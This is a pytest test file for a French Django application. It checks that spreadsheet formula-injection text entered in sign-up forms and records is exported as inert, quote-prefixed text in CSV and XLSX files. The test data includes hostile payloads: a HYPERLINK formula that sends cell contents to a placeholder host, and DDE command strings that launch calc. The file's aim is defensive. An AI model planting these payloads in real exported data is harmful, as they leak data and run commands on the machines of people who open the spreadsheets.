"""Spreadsheet formula injection (OWASP « CSV Injection »): a text typed by anyone (even
anonymously, through the réserve sign-up) that starts with = + - @ tab or CR is exported
as inert text, in CSV and in XLSX, on every export path; numbers stay numbers."""

import csv
import io
from datetime import date

import pytest
from django.core.cache import cache
from openpyxl import load_workbook

from relais.volunteers.documents import nominative_list_csv
from relais.volunteers.models import ReserveApplication
from relais.www.lists import csv_response, xlsx_response
from tests.agreements.factories import draft_agreement
from tests.factories import CommuneFactory, OrganisationFactory
from tests.internships.factories import HubFactory, RomeCodeFactory, referred_case
from tests.networks.factories import ClubFactory, MandateFactory
from tests.volunteers.factories import AdvisorFactory

from . import test_matrix_volunteers

vworld = test_matrix_volunteers.vworld

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?vol="&A1,"Cliquez ici")'
MALICIOUS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def xlsx_cells(response) -> list:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_inert_csv(rows, text):
    cells = [cell for row in rows for cell in row]
    assert "'" + text in cells, (text, cells)
    assert text not in cells


def assert_inert_xlsx(cells, text):
    matching = [c for c in cells if isinstance(c.value, str) and c.value.endswith(text)]
    assert matching, text
    for cell in matching:
        assert cell.data_type == "s" and cell.value == "'" + text


# --- the writers --------------------------------------------------------------------------


@pytest.mark.parametrize("text", MALICIOUS)
def test_the_writers_neutralise_formulas_and_keep_numbers(text):
    header = ["Texte", "Nombre", "Négatif", "Décimal", "Date", "Inoffensif"]
    items = [[text, 42, -3, -2.5, date(2026, 1, 5), "Marie-Claire"]]
    rows = csv_rows(csv_response("x.csv", header, items, list))
    assert rows[1] == ["'" + text, "42", "-3", "-2.5", "2026-01-05", "Marie-Claire"]
    cells = xlsx_cells(xlsx_response("x.xlsx", header, items, list))[len(header) :]
    assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "n"]
    assert [c.value for c in cells[:4]] == ["'" + text, 42, -3, -2.5]
    assert cells[4].is_date and cells[5].value == "Marie-Claire"


def test_a_control_character_in_a_cell_does_not_break_the_xlsx():
    response = xlsx_response("x.xlsx", ["Nom"], [["Nom\x00avec\x07contrôle"]], list)
    assert xlsx_cells(response)[1].value == "Nomaveccontrôle"


# --- the export pages -----------------------------------------------------------------------


@pytest.fixture
def commune(world):
    return CommuneFactory(
        name="Castelnau-le-Lez", postal_code="34170", insee_code="34057",
        departement__academie=world.home, search_text="castelnau le lez 34170",
    )  # fmt: skip


def test_an_anonymous_signup_with_a_formula_reaches_the_daet_export_inert(
    world, client, client_for, commune
):
    cache.clear()
    response = client.post(
        "/benevoles/reserve/inscription/",
        {
            "first_name": "@SUM(1+1)",
            "last_name": HYPERLINK,
            "email": "piege@exemple.fr",
            "profession": "-2+3",
            "skills": ["metier"],
            "availability": ["mercredi"],
            "commune": "Castelnau-le-Lez (34170)",
            "max_distance_km": "25",
            "charter_accepted": "on",
            "confidentiality_accepted": "on",
        },  # fmt: skip
    )
    assert response.status_code == 302
    assert ReserveApplication.objects.get().last_name == HYPERLINK  # stored as typed
    team = client_for(world.users["academie_team"])
    url = "/benevoles/reserve/candidatures/export/"
    rows = csv_rows(team.get(url))
    for text in (HYPERLINK, "@SUM(1+1)", "-2+3"):
        assert_inert_csv(rows, text)
    cells = xlsx_cells(team.get(url, {"format": "xlsx"}))
    for text in (HYPERLINK, "@SUM(1+1)", "-2+3"):
        assert_inert_xlsx(cells, text)
    assert not any(c.data_type == "f" for c in cells)
    distance = [c for c in cells if c.column_letter == "L" and c.row == 2][0]
    assert distance.value == 25 and distance.data_type == "n"


def test_organisations_csv(world, client_for):
    OrganisationFactory(academie=world.home, name=HYPERLINK)
    rows = csv_rows(client_for(world.users["academie_team"]).get("/organisations/export.csv"))
    assert_inert_csv(rows, HYPERLINK)


def test_agreements_excel_export(world, client_for):
    team = world.users["academie_team"]
    draft_agreement(team, world.home, title="@SUM(1+1)*cmd")
    client = client_for(team)
    assert_inert_xlsx(xlsx_cells(client.get("/conventions/export.xlsx")), "@SUM(1+1)*cmd")
    assert_inert_csv(csv_rows(client.get("/conventions/export.csv")), "@SUM(1+1)*cmd")


def test_networks_directory_csv_and_xlsx(world, client_for):
    club = ClubFactory(academie=world.home, bassin=world.bassin, name="-2+3+cmd")
    MandateFactory(club=club, school_year=2025, full_name="=1+1")
    client = client_for(world.users["teacher"])
    rows = csv_rows(client.get(f"/reseaux/annuaire/{world.home.code}/2025.csv"))
    assert_inert_csv(rows, "-2+3+cmd")
    assert_inert_csv(rows, "=1+1")
    cells = xlsx_cells(client.get(f"/reseaux/annuaire/{world.home.code}/2025.xlsx"))
    assert_inert_xlsx(cells, "=1+1")


def test_internships_indicators_export(world, client_for):
    RomeCodeFactory(code="H2201")
    HubFactory(bassin=world.bassin, name="=HUB()")
    world.school.name = "+Collège()"
    world.school.save()
    referred_case(world.school, world.users["teacher"])
    client = client_for(world.users["academie_team"])
    url = "/stages/indicateurs/export/"
    params = {"group": "etablissement"}
    assert_inert_csv(csv_rows(client.get(url, params)), "+Collège()")
    cells = xlsx_cells(client.get(url, {**params, "format": "xlsx"}))
    assert_inert_xlsx(cells, "+Collège()")
    assert not any(c.data_type == "f" for c in cells)


def test_volunteers_nominative_list_download_and_attachment(vworld, client_for):
    advisor = vworld.active
    advisor.last_name = "=cmd|' /C calc'!A0"
    advisor.save()
    client = client_for(vworld.world.users["academie_team"])
    rows = csv_rows(client.get("/benevoles/conseillers/liste-nominative/csv/"))
    assert_inert_csv(rows, advisor.last_name)
    attached = nominative_list_csv([advisor])
    rows = list(csv.reader(io.StringIO(attached.decode("utf-8-sig")), delimiter=";"))
    assert_inert_csv(rows, advisor.last_name)


def test_advisors_export_with_a_formula_in_the_employer(world, client_for):
    AdvisorFactory(academie=world.home, employer_name="@cmd", active=True)
    rows = csv_rows(client_for(world.users["academie_team"]).get("/benevoles/conseillers/export/"))
    assert_inert_csv(rows, "@cmd")
